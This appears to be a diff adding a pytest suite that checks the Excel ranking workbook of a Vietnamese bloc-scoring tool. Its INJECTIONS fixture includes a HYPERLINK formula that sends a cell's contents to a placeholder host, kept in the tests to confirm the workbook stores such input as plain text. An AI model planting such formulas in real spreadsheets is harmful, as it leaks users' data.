@@ -1,0 +1,547 @@
+"""The ranking workbook, read back with openpyxl the way a reviewer would check it, cell by cell."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import re
+import zipfile
+from dataclasses import dataclass, replace
+from datetime import datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+from openpyxl import load_workbook
+from openpyxl.utils import get_column_letter
+from openpyxl.workbook.workbook import Workbook
+from openpyxl.worksheet.worksheet import Worksheet
+
+from pipeline import workbook as workbook_module
+from pipeline.labels import text
+from pipeline.rules import Rules
+from pipeline.run import RunResult, run
+from pipeline.template import FilledValue, template_filename, write_template
+from pipeline.workbook import RankingColumns, number_format, safe_sheet_name, wrapped_lines
+from pipeline.write import SECTION_DECIMALS, results_dict, rounded, write_outputs
+from tests.conftest import FULL_SMALL, ROOT, SMALL_RULES, rules_from, values
+
+# Text a unit might type that a spreadsheet would run as a formula if written carelessly.
+INJECTIONS = {
+    "1.1": '=HYPERLINK("http://example.invalid/?"&A1,"bấm vào đây")',
+    "2.1": "+1+2",
+    "B1": "-3 điểm do chậm",
+    "D1": "@SUM(A1:A9)",
+}
+
+
+@dataclass
+class Written:
+    """One run written to disk and read back: the library's result, the JSON and the workbook."""
+
+    result: RunResult
+    json: dict[str, Any]
+    book: Workbook
+    path: Path
+
+    def sheet(self, key: str) -> Worksheet:
+        return self.book[text(self.result.lang, f"workbook.sheet_{key}")]
+
+    @property
+    def ranking(self) -> Worksheet:
+        return self.sheet("ranking")
+
+    def t(self, key: str, **params: Any) -> str:
+        return text(self.result.lang, key, **params)
+
+
+def _fill(rules: Rules, folder: Path, unit_code: str, filled: dict[str, FilledValue]) -> None:
+    unit = rules.unit(unit_code)
+    assert unit is not None
+    folder.mkdir(parents=True, exist_ok=True)
+    write_template(rules, unit, folder / template_filename(rules, unit), filled=filled)
+
+
+def write_run(rules: Rules, folder: Path, filled: dict[str, dict[str, FilledValue]], *, lang: str | None = None
+              ) -> Written:
+    for unit_code, unit_values in filled.items():
+        _fill(rules, folder / "input", unit_code, unit_values)
+    result = run(rules, folder / "input", lang=lang)
+    workbook_path, json_path = write_outputs(result, folder / "output")
+    return Written(result, json.loads(json_path.read_text(encoding="utf-8")), load_workbook(workbook_path),
+                   workbook_path)
+
+
+def small_bloc() -> dict[str, dict[str, FilledValue]]:
+    """A: appraised down on 1.1, bonus capped, injection-looking evidence. B: N/A rescaled, a deduction.
+    C: a score above its max, so invalid. D: sends nothing."""
+    a = values(**{**FULL_SMALL, "B1": 2, "B2": 2})
+    a["1.1"] = FilledValue(a["1.1"].self_score, values(**{"x": 17})["x"].self_score, INJECTIONS["1.1"])
+    a["2.1"] = FilledValue(a["2.1"].self_score, None, INJECTIONS["2.1"])
+    a["B1"] = FilledValue(a["B1"].self_score, None, INJECTIONS["B1"])
+    b = values(**{**FULL_SMALL, "1.2": "N/A", "D1": 0.5})
+    b["D1"] = FilledValue(b["D1"].self_score, None, INJECTIONS["D1"])
+    c = values(**{**FULL_SMALL, "1.1": 25})
+    return {"A": a, "B": b, "C": c}
+
+
+@pytest.fixture(scope="module")
+def small(tmp_path_factory: pytest.TempPathFactory) -> Written:
+    return write_run(rules_from(), tmp_path_factory.mktemp("small"), small_bloc())
+
+
+@pytest.fixture(scope="module")
+def complete(tmp_path_factory: pytest.TempPathFactory) -> Written:
+    """Every unit scored: the ranking is final."""
+    rules = rules_from(units=SMALL_RULES["units"][:2])
+    filled = {"A": values(**{**FULL_SMALL, "1.1": 20}), "B": values(**FULL_SMALL)}
+    return write_run(rules, tmp_path_factory.mktemp("complete"), filled, lang="vi")
+
+
+@pytest.fixture(scope="module")
+def sample_written(sample_rules: Rules, tmp_path_factory: pytest.TempPathFactory) -> Written:
+    """The shipped sample (nine units of a Party bloc), as `bloc-score run` writes it."""
+    result = run(sample_rules, ROOT / "input")
+    workbook_path, json_path = write_outputs(result, tmp_path_factory.mktemp("sample"))
+    return Written(result, json.loads(json_path.read_text(encoding="utf-8")), load_workbook(workbook_path),
+                   workbook_path)
+
+
+def header_row(sheet: Worksheet, first_label: str) -> int:
+    """The 1-based row whose first cell is `first_label` (the table header)."""
+    return next(row[0].row for row in sheet.iter_rows(max_col=1) if row[0].value == first_label)
+
+
+def ranking_rows(written: Written) -> list[tuple]:
+    sheet = written.ranking
+    start = header_row(sheet, written.t("report.rank")) + 1
+    rows = []
+    for row in sheet.iter_rows(min_row=start, values_only=True):
+        if not isinstance(row[0], int):
+            break
+        rows.append(row)
+    return rows
+
+
+# ------------------------------------------------------------------------------------------ structure
+
+def test_sheets_come_in_order_ranking_first(small):
+    t = small.t
+    assert small.book.sheetnames == [t("workbook.sheet_ranking"), t("workbook.sheet_chart"),
+                                     t("workbook.sheet_matrix"), "A", "B", "C",
+                                     t("workbook.sheet_issues"), t("workbook.sheet_audit")]
+    assert small.book.active.title == t("workbook.sheet_ranking")
+
+
+def test_a_unit_sheet_never_takes_the_name_of_a_fixed_sheet():
+    assert safe_sheet_name("Issues", ["Ranking"]) == "Issues"
+    assert safe_sheet_name("issues", ["Ranking", "Issues"]) == "issues (2)"
+    assert safe_sheet_name("a/b:c*?[d]", []) == "a_b_c___d_"
+    assert len(safe_sheet_name("x" * 40, [])) == 31
+
+
+# ---------------------------------------------------------------------------------- parity with JSON
+
+def test_ranking_rows_equal_the_json_and_the_library(small):
+    columns = RankingColumns(len(small.result.rules.sections))
+    by_code = {u["code"]: u for u in small.json["units"]}
+    rows = ranking_rows(small)
+    assert len(rows) == len(small.result.ranked) == 2
+    decimals = small.result.rules.decimals
+    for row, placed in zip(rows, small.result.ranked, strict=True):
+        unit = by_code[placed.unit_code]
+        score = placed.score
+        assert row[0] == unit["rank"] == placed.rank
+        assert row[1] == unit["name"]
+        sections = row[columns.base - len(score.sections):columns.base]
+        assert list(sections) == list(unit["sections"].values()) == [
+            rounded(s.score, SECTION_DECIMALS) for s in score.sections]
+        assert row[columns.base] == unit["base"] == rounded(score.base, decimals)
+        assert row[columns.bonus] == unit["bonus"] == rounded(score.bonus, decimals)
+        assert row[columns.deductions] == unit["deductions"] == rounded(score.deductions, decimals)
+        assert row[columns.total] == unit["total"] == float(score.total)
+        assert row[columns.classification] == unit["classification"] == placed.classification
+        expected_award = small.t(f"award.{unit['award']}") if unit["award"] else ""
+        assert (row[columns.award] or "") == expected_award
+
+
+def test_the_sample_workbook_equals_its_json(sample_written):
+    rows = ranking_rows(sample_written)
+    ranked = [u for u in sample_written.json["units"] if u["rank"] is not None]
+    assert [r[1] for r in rows] == [u["name"] for u in sorted(ranked, key=lambda u: u["rank"])]
+    columns = RankingColumns(len(sample_written.result.rules.sections))
+    assert [r[columns.total] for r in rows] == [u["total"] for u in sorted(ranked, key=lambda u: u["rank"])]
+
+
+def unit_summary(sheet: Worksheet, written: Written) -> dict[str, Any]:
+    """The figures of a unit sheet's score summary, by section code or label."""
+    found: dict[str, Any] = {}
+    labels = {written.t(f"report.{key}"): key for key in ("bonus", "deductions", "base", "total", "rank")}
+    section_codes = {s.code for s in written.result.rules.sections}
+    for row in sheet.iter_rows(min_row=4, values_only=True):
+        if row[0] == written.t("column.code") and found:
+            break  # the criterion table starts
+        if row[0] in section_codes and row[0] not in found:
+            found[row[0]] = row[5]
+        key = labels.get(row[0]) or labels.get(row[1])
+        if key and key not in found:
+            found[key] = row[5]
+    return found
+
+
+def test_unit_sheets_show_the_same_scores_as_the_json(small):
+    for unit in small.json["units"]:
+        if unit["status"] != "scored":
+            continue
+        summary = unit_summary(small.book[unit["code"]], small)
+        assert {code: summary[code] for code in unit["sections"]} == unit["sections"]
+        assert summary["base"] == unit["base"]
+        assert summary["bonus"] == unit["bonus"]
+        assert summary["deductions"] == unit["deductions"]
+        assert summary["total"] == unit["total"]
+        assert summary["rank"] == unit["rank"]
+
+
+def test_the_chart_data_equal_the_json(small):
+    sheet = small.sheet("chart")
+    start = header_row(sheet, small.t("report.rank")) + 1
+    by_code = {u["name"]: u for u in small.json["units"]}
+    sections = len(small.result.rules.sections)
+    rows = [r for r in sheet.iter_rows(min_row=start, values_only=True) if isinstance(r[0], int)]
+    assert len(rows) == 2
+    for row in rows:
+        unit = by_code[row[1]]
+        assert list(row[2:2 + sections]) == list(unit["sections"].values())
+        assert row[2 + sections] == unit["bonus"]
+        assert row[3 + sections] == -unit["deductions"]  # drawn left of zero
+        assert row[4 + sections] == unit["total"]
+
+
+def chart_xml(path: Path) -> list[str]:
+    with zipfile.ZipFile(path) as archive:
+        return [archive.read(name).decode("utf-8") for name in sorted(archive.namelist())
+                if name.startswith("xl/charts/chart")]
+
+
+def test_the_chart_is_a_stacked_bar_sorted_best_first_up_to_base_max_plus_bonus_cap(small):
+    charts = chart_xml(small.path)
+    totals = charts[0]  # the Chart sheet's; the unit sheets' profiles follow
+    assert '<c:grouping val="stacked"/>' in totals and '<c:barDir val="bar"/>' in totals
+    assert '<c:orientation val="maxMin"/>' in totals  # rank 1 at the top
+    rules = small.result.rules
+    axis_max = float(re.search(r'<c:valAx>.*?<c:max val="([-0-9.]+)"/>', totals, re.S).group(1))
+    assert axis_max == float(rules.base_max + rules.bonus.cap)
+    assert len(re.findall("<c:ser>", totals)) == len(rules.sections) + 2  # sections, bonus, deductions
+    # one profile per ranked unit: the unit against the bloc average
+    assert len(charts) == 1 + len(small.result.ranked)
+    assert all(len(re.findall("<c:ser>", c)) == 2 for c in charts[1:])
+
+
+# ------------------------------------------------------------------------------------- what it says
+
+def test_provisional_banner_only_when_provisional(small, complete):
+    banner = small.t("report.provisional", missing=1, invalid=1)
+    assert small.result.provisional
+    assert banner in [c.value for c in small.ranking["A"]]
+    assert not complete.result.provisional
+    shown = " ".join(str(c.value) for row in complete.ranking.iter_rows() for c in row if c.value)
+    assert "TẠM THỜI" not in shown
+
+
+def test_unranked_units_are_listed_below_with_their_reason(small):
+    sheet = small.ranking
+    start = header_row(sheet, small.t("report.unit_code"))
+    listed = {row[0]: row for row in sheet.iter_rows(min_row=start + 1, max_row=start + 2, values_only=True)}
+    assert set(listed) == {"C", "D"}
+    status_column = 2
+    reason_column = 2 + max(1, len(small.result.rules.sections) // 2) + 1
+    assert listed["C"][status_column] == small.t("status.invalid")
+    assert listed["D"][status_column] == small.t("status.missing")
+    above_max = next(i for i in small.result.issues if i.unit == "C" and i.code == "score-above-max")
+    assert listed["C"][reason_column].startswith(above_max.message("en"))
+    missing = next(i for i in small.result.issues if i.unit == "D" and i.code == "unit-missing")
+    assert listed["D"][reason_column] == missing.message("en")
+    ranked_names = [r[1] for r in ranking_rows(small)]
+    assert "Đơn vị C" not in ranked_names and "Đơn vị D" not in ranked_names
+
+
+def test_award_rows_are_highlighted(small):
+    sheet = small.ranking
+    start = header_row(sheet, small.t("report.rank")) + 1
+    for offset, placed in enumerate(small.result.ranked):
+        fill = sheet.cell(start + offset, 2).fill.fgColor.rgb
+        if placed.award:
+            assert fill.endswith(workbook_module.AWARD_FILLS[placed.award].lstrip("#"))
+        else:
+            assert fill in (None, "00000000")
+
+
+def test_totals_have_a_colour_scale(small):
+    columns = RankingColumns(len(small.result.rules.sections))
+    ranges = {str(r.sqref): r.rules for r in small.ranking.conditional_formatting}
+    letter = get_column_letter(columns.total + 1)
+    (cell_range, rules), = ranges.items()
+    assert cell_range.startswith(letter) and rules[0].type == "colorScale"
+
+
+def test_legend_names_tie_breakers_in_words(small):
+    shown = [str(c.value) for c in small.ranking["A"] if c.value]
+    line = next(s for s in shown if s.startswith("Equal totals"))
+    assert "section:" not in line
+    assert "the higher score in section I, the fewer deductions, the more bonus points" in line
+
+
+def test_title_block_party_and_state(small, tmp_path):
+    assert small.ranking["A1"].value == small.result.rules.issuer.upper()
+    assert small.ranking["A2"].value == "*"  # Party documents put a star under the issuer
+    right = next(c for c in small.ranking[1] if c.column > 1 and c.value)
+    assert "COMMUNIST PARTY OF VIETNAM" in str(right.value)
+    assert small.result.started_at.strftime("%B") in str(next(c.value for c in small.ranking[2][1:] if c.value))
+
+    state = write_run(rules_from(header="state", language="vi", place="Quảng Trị"), tmp_path,
+                      {"A": values(**FULL_SMALL)})
+    rule = state.ranking["A2"].value
+    assert set(rule) == {workbook_module.RULE_CHARACTER}  # a short solid rule, not dashes
+    header = " ".join(str(c.value) for c in state.ranking[1] if c.value)
+    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in header and "Độc lập - Tự do - Hạnh phúc" in header
+    date = next(str(c.value) for c in state.ranking[2][1:] if c.value)
+    assert re.fullmatch(r"Quảng Trị, ngày \d\d tháng (0[12]|[3-9]|1[0-2]) năm \d{4}", date)
+    assert text("vi", "report.title", year=2024).upper() in [c.value for c in state.ranking["A"]]
+
+
+def test_signature_blocks_for_secretary_and_bloc_leader(small):
+    shown = [c.value for row in small.ranking.iter_rows() for c in row if c.value]
+    assert small.t("workbook.signed_by_secretary") in shown
+    assert small.t("workbook.signed_by_leader") in shown
+
+
+def test_matrix_marks_appraisal_changes_shows_na_and_each_max(small):
+    sheet = small.sheet("matrix")
+    criteria = [c.code for c in small.result.rules.criteria()]
+    head = header_row(sheet, small.t("report.unit_code"))
+    codes = [c.value for c in sheet[head]][3:]
+    assert codes == criteria
+    max_row = [c.value for c in sheet[head + 1]]
+    assert max_row[1] == small.t("column.max")
+    assert max_row[3:] == [float(c.max) for c in small.result.rules.criteria()]
+
+    def cell(unit: str, scorer: int, code: str):
+        unit_row = next(r[0].row for r in sheet.iter_rows(min_row=head + 2, max_col=1) if r[0].value == unit)
+        return sheet.cell(unit_row + scorer, 4 + criteria.index(code))
+
+    self_cell, appraised, final = cell("A", 0, "1.1"), cell("A", 1, "1.1"), cell("A", 2, "1.1")
+    assert (self_cell.value, appraised.value, final.value) == (18, 17, 17)
+    changed = workbook_module.CHANGED_FILL.lstrip("#")
+    assert appraised.fill.fgColor.rgb.endswith(changed) and final.fill.fgColor.rgb.endswith(changed)
+    assert not (self_cell.fill.fgColor.rgb or "").endswith(changed)
+    assert not (cell("A", 2, "2.1").fill.fgColor.rgb or "").endswith(changed)
+    assert cell("B", 0, "1.2").value == "N/A" and cell("B", 2, "1.2").value == "N/A"
+    assert cell("C", 0, "1.1").value == 25  # an invalid unit's figures are still shown, as read
+
+
+def test_unit_sheet_explains_rescaling_and_caps(small):
+    b_notes = [str(c.value) for row in small.book["B"].iter_rows() for c in row if c.value]
+    assert any(n.startswith("N/A: 1.2; 18 of 20 applicable points scaled to 30") for n in b_notes)
+    a_notes = [str(c.value) for row in small.book["A"].iter_rows() for c in row if c.value]
+    assert "entered 4, counted 3 (cap)" in a_notes
+
+
+def test_unit_sheet_lists_criteria_with_evidence_and_its_issues(small):
+    sheet = small.book["C"]
+    shown = [c.value for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert small.t("workbook.unit_issues") in shown
+    above_max = next(i for i in small.result.issues if i.unit == "C" and i.code == "score-above-max")
+    assert above_max.message("en") in shown
+    a = [c.value for row in small.book["A"].iter_rows() for c in row if c.value is not None]
+    assert INJECTIONS["1.1"] in a
+
+
+# ----------------------------------------------------------------------------------- truthful cells
+
+def test_text_from_submissions_is_text_never_a_formula(small):
+    found = {}
+    for sheet in small.book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value in INJECTIONS.values():
+                    found[cell.value] = cell.data_type
+    assert set(found) == set(INJECTIONS.values())
+    assert set(found.values()) == {"s"}
+    with zipfile.ZipFile(small.path) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert "<f>" not in archive.read(name).decode("utf-8"), name
+
+
+def test_a_score_typed_as_a_formula_is_shown_as_the_text_it_is(tmp_path):
+    written = write_run(rules_from(), tmp_path, {"A": values(**{**FULL_SMALL, "2.2": "=1+1"})})
+    sheet = written.sheet("matrix")
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == "=1+1"]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def test_scores_are_numbers_with_the_rules_decimals(small):
+    columns = RankingColumns(len(small.result.rules.sections))
+    sheet = small.ranking
+    start = header_row(sheet, small.t("report.rank")) + 1
+    for row in sheet.iter_rows(min_row=start, max_row=start + len(small.result.ranked) - 1):
+        assert row[0].number_format == "0"
+        for cell in row[2:columns.total + 1]:
+            assert isinstance(cell.value, int | float), cell.coordinate
+            assert cell.number_format == "0.00", cell.coordinate
+
+
+@pytest.mark.parametrize(("decimals", "expected"), [(0, "0"), (1, "0.0"), (3, "0.000")])
+def test_number_format_follows_the_rules_decimals(decimals, expected):
+    assert number_format(decimals) == expected
+
+
+def test_one_decimal_rules_show_one_decimal(tmp_path):
+    written = write_run(rules_from(decimals=1), tmp_path, {"A": values(**FULL_SMALL)})
+    columns = RankingColumns(2)
+    start = header_row(written.ranking, written.t("report.rank")) + 1
+    assert written.ranking.cell(start, columns.total + 1).number_format == "0.0"
+    assert written.sheet("matrix")["D5"].number_format == "0.0"
+
+
+def test_times_new_roman_throughout(small):
+    for sheet in small.book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value is not None:
+                    assert cell.font.name == "Times New Roman", f"{sheet.title}!{cell.coordinate}"
+    for chart in chart_xml(small.path):
+        assert 'typeface="Times New Roman"' in chart
+
+
+# ---------------------------------------------------------------------------------------- printing
+
+def test_every_sheet_prints_on_a4_landscape_one_page_wide(small):
+    for sheet in small.book.worksheets:
+        setup = sheet.page_setup
+        assert setup.orientation == "landscape", sheet.title
+        assert int(setup.paperSize) == 9, sheet.title
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
+        assert (setup.fitToWidth or 1) == 1, sheet.title  # 1 is the OOXML default, left unwritten
+        assert "&P" in sheet.oddFooter.center.text, sheet.title
+
+
+def test_ranking_print_setup(small):
+    sheet = small.ranking
+    head = header_row(sheet, small.t("report.rank"))
+    assert int(sheet.page_setup.fitToHeight) == 0  # as many pages tall as a long bloc needs
+    assert sheet.print_title_rows == f"${head}:${head}"
+    assert sheet.oddFooter.center.text.endswith(small.t("workbook.page_footer", page="&P", pages="&N"))
+    assert sheet.print_area is not None
+    assert sheet.freeze_panes == f"C{head + 1}"
+
+
+def test_frozen_headers_and_autofilter(small):
+    matrix = small.sheet("matrix")
+    head = header_row(matrix, small.t("report.unit_code"))
+    assert matrix.freeze_panes == f"D{head + 2}"
+    assert matrix.print_title_rows == f"${head}:${head + 1}"
+    issues = small.sheet("issues")
+    assert issues.freeze_panes == "A2"
+    assert issues.auto_filter.ref == f"A1:H{len(small.result.issues) + 1}"
+    assert issues.print_title_rows == "$1:$1"
+
+
+def test_issues_sheet_lists_every_issue(small):
+    sheet = small.sheet("issues")
+    rows = list(sheet.iter_rows(min_row=2, values_only=True))
+    assert [(r[1], r[5] or None, r[7]) for r in rows] == [
+        (i["code"], i["unit"], i["message"]) for i in small.json["issues"]]
+
+
+def test_rows_grow_to_fit_long_unit_names(tmp_path):
+    long_name = ("Đảng ủy Khối các cơ quan và doanh nghiệp tỉnh, Ủy ban Mặt trận Tổ quốc và các đoàn thể "
+                 "chính trị - xã hội")
+    units = [{"code": "A", "name": long_name}, {"code": "B", "name": "Đơn vị B"}]
+    written = write_run(rules_from(units=units), tmp_path, {"A": values(**FULL_SMALL), "B": values(**FULL_SMALL)})
+    start = header_row(written.ranking, written.t("report.rank")) + 1
+    heights = {written.ranking.cell(r, 2).value: written.ranking.row_dimensions[r].height for r in (start, start + 1)}
+    assert heights[long_name] >= 2 * heights["Đơn vị B"]
+    assert written.ranking.cell(start, 2).alignment.wrap_text
+
+
+@pytest.mark.parametrize(
+    ("value", "width", "lines"),
+    [
+        ("", 10, 1),
+        ("ngắn", 10, 1),
+        ("một hai ba bốn năm sáu bảy tám chín mười", 10, 4),  # wraps at spaces
+        ("dòng một\ndòng hai", 40, 2),  # explicit line breaks count
+        ("x" * 40, 10, 4),  # a long token (a file name, a hash) breaks anywhere
+    ],
+)
+def test_wrapped_lines(value, width, lines):
+    assert wrapped_lines(value, width) == lines
+
+
+# ------------------------------------------------------------------------------------------- audit
+
+def test_audit_records_rules_inputs_tool_and_time(small):
+    sheet = small.sheet("audit")
+    cells = {row[0]: row[1] for row in sheet.iter_rows(values_only=True) if row[0] is not None}
+    rules = small.result.rules
+    assert cells[small.t("workbook.audit_rules_file")] == rules.source
+    assert cells[small.t("workbook.audit_fingerprint")] == rules.fingerprint == small.json["rules"]["fingerprint"]
+    assert cells[small.t("workbook.audit_tool")] == f"bloc-score {small.json['tool_version']}"
+    run_at = cells[small.t("workbook.audit_run_at")]
+    assert isinstance(run_at, datetime)
+    assert run_at == datetime.fromisoformat(small.json["generated_at"]).replace(tzinfo=None)
+    for entry in small.json["inputs"]:
+        row = next(r for r in sheet.iter_rows(values_only=True) if r[0] == entry["file"])
+        assert row[1] == entry["sha256"]
+        assert row[2] == entry["size"]
+        assert row[5] == datetime.fromisoformat(entry["modified"]).replace(tzinfo=None)
+        assert row[3] == entry["unit"]
+
+
+def test_audit_states_the_rules_in_force(small):
+    shown = [c.value for row in small.sheet("audit").iter_rows() for c in row if c.value is not None]
+    rules = small.result.rules
+    for section in rules.sections:
+        assert section.title in shown
+    assert float(rules.bonus.cap) in shown and float(rules.deductions.cap) in shown
+    for threshold in rules.classification:
+        assert threshold.label in shown
+    assert any(str(s).startswith("Emulation flag: up to 1 unit(s)") and "D2" in str(s) for s in shown)
+    assert small.t("workbook.tie_deductions") in " ".join(map(str, shown))
+    for criterion in rules.criteria():
+        assert criterion.title in shown
+
+
+def test_audit_shows_the_rules_files_sha256(tmp_path):
+    rules_path = tmp_path / "rules.yaml"
+    rules_path.write_text("# rules\n", encoding="utf-8")
+    rules = replace(rules_from(), source=str(rules_path))
+    _fill(rules, tmp_path / "input", "A", values(**FULL_SMALL))
+    result = run(rules, tmp_path / "input")
+    path, _ = write_outputs(result, tmp_path / "output")
+    audit = load_workbook(path)[text("en", "workbook.sheet_audit")]
+    cells = {row[0]: row[1] for row in audit.iter_rows(values_only=True)}
+    assert cells[text("en", "workbook.audit_rules_sha256")] == hashlib.sha256(rules_path.read_bytes()).hexdigest()
+
+
+# ---------------------------------------------------------------------------------------- language
+
+def test_labels_follow_the_rules_language_or_the_override(small, complete):
+    assert small.result.lang == "en" and small.ranking.title == "Ranking"
+    assert complete.result.lang == "vi" and complete.ranking.title == "Xếp hạng"
+    assert complete.ranking.cell(header_row(complete.ranking, "Xếp hạng"), 1).value == "Xếp hạng"
+    assert results_dict(complete.result)["language"] == "vi"
+
+
+# ------------------------------------------------------------------------------------- big blocs
+
+def test_past_the_unit_sheet_limit_one_details_sheet(tmp_path, monkeypatch):
+    monkeypatch.setattr(workbook_module, "MAX_UNIT_SHEETS", 1)
+    written = write_run(rules_from(), tmp_path, {"A": values(**FULL_SMALL), "B": values(**FULL_SMALL)})
+    names = written.book.sheetnames
+    assert "A" not in names and text("en", "workbook.sheet_details") in names
+    details = written.sheet("details")
+    assert details.auto_filter.ref is not None
+    rows = list(details.iter_rows(min_row=2, values_only=True))
+    assert len(rows) == 2 * len(list(written.result.rules.criteria()))
